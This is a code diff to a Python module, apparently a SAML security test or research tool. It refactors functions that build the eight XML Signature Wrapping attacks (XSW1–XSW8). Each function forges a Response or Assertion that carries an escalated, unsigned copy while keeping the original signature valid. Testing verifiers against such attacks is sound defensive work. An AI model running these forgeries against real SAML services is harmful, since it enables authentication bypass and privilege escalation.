@@ -151,6 +151,25 @@ def without_signature(element: Any) -> Any:
     return clone
 
 
+def evil_copy(element: Any, new_id: str | None = None) -> Any:
+    """An unsigned, escalated copy of the signed ``element`` (under ``new_id``, if given)."""
+    evil = without_signature(element)
+    escalate(evil)
+    if new_id is not None:
+        evil.set("ID", new_id)
+    return evil
+
+
+def escalate_in_place(element: Any, new_id: str | None = None) -> Any:
+    """Escalate the signed ``element`` where it stands (Signature kept; under ``new_id``, if
+    given) and return an unsigned copy of it as it was, for the signature to find."""
+    original = without_signature(element)
+    escalate(element)
+    if new_id is not None:
+        element.set("ID", new_id)
+    return original
+
+
 # -- XML Signature Wrapping (Somorovsky et al. 2012) ---------------------------------------
 # XSW1 and XSW2 attack a signed Response; XSW3-XSW8 a signed Assertion.
 
@@ -158,38 +177,29 @@ def without_signature(element: Any) -> Any:
 def xsw1(doc: Any) -> Any:
     """The signed Response moves inside its own Signature; the outer (evil) Response, with a
     new ID, carries the evil assertion."""
-    original = without_signature(doc)
-    escalate(doc)
+    original = escalate_in_place(doc, "_evil_response")
     signature_of(doc).append(original)
-    doc.set("ID", "_evil_response")
     return doc
 
 
 def xsw2(doc: Any) -> Any:
     """Like XSW1, but the signed Response sits next to the Signature (a detached signature)."""
-    original = without_signature(doc)
-    escalate(doc)
+    original = escalate_in_place(doc, "_evil_response")
     signature_of(doc).addprevious(original)
-    doc.set("ID", "_evil_response")
     return doc
 
 
 def xsw3(doc: Any) -> Any:
     """An unsigned evil Assertion (new ID) is inserted before the signed one."""
     assertion = the_assertion(doc)
-    evil = without_signature(assertion)
-    escalate(evil)
-    evil.set("ID", "_evil_assertion")
-    assertion.addprevious(evil)
+    assertion.addprevious(evil_copy(assertion, "_evil_assertion"))
     return doc
 
 
 def xsw4(doc: Any) -> Any:
     """The evil Assertion wraps the signed one: the original becomes its child."""
     assertion = the_assertion(doc)
-    evil = without_signature(assertion)
-    escalate(evil)
-    evil.set("ID", "_evil_assertion")
+    evil = evil_copy(assertion, "_evil_assertion")
     doc.append(evil)
     evil.append(assertion)
     return doc
@@ -198,21 +208,14 @@ def xsw4(doc: Any) -> Any:
 def xsw5(doc: Any) -> Any:
     """The assertion in place is edited (keeping the Signature, new ID); an unsigned copy of the
     original is appended to the Response for the signature to find."""
-    evil = the_assertion(doc)
-    original = without_signature(evil)
-    escalate(evil)
-    evil.set("ID", "_evil_assertion")
-    doc.append(original)
+    doc.append(escalate_in_place(the_assertion(doc), "_evil_assertion"))
     return doc
 
 
 def xsw6(doc: Any) -> Any:
     """Like XSW5, but the copy of the original hides inside the evil assertion's Signature."""
     evil = the_assertion(doc)
-    original = without_signature(evil)
-    escalate(evil)
-    evil.set("ID", "_evil_assertion")
-    signature_of(evil).append(original)
+    signature_of(evil).append(escalate_in_place(evil, "_evil_assertion"))
     return doc
 
 
@@ -221,9 +224,7 @@ def xsw7(doc: Any) -> Any:
     with the same ID."""
     assertion = the_assertion(doc)
     extensions = etree.Element(f"{{{SAMLP_NS}}}Extensions")
-    evil = without_signature(assertion)
-    escalate(evil)
-    extensions.append(evil)
+    extensions.append(evil_copy(assertion))
     assertion.addprevious(extensions)
     return doc
 
@@ -232,10 +233,8 @@ def xsw8(doc: Any) -> Any:
     """The assertion in place is edited (same ID, Signature kept); the original, unsigned,
     hides in a ``ds:Object`` inside that Signature."""
     evil = the_assertion(doc)
-    original = without_signature(evil)
-    escalate(evil)
-    holder = etree.SubElement(signature_of(evil), f"{{{DS_NS}}}Object")
-    holder.append(original)
+    original = escalate_in_place(evil)
+    etree.SubElement(signature_of(evil), f"{{{DS_NS}}}Object").append(original)
     return doc
 
 
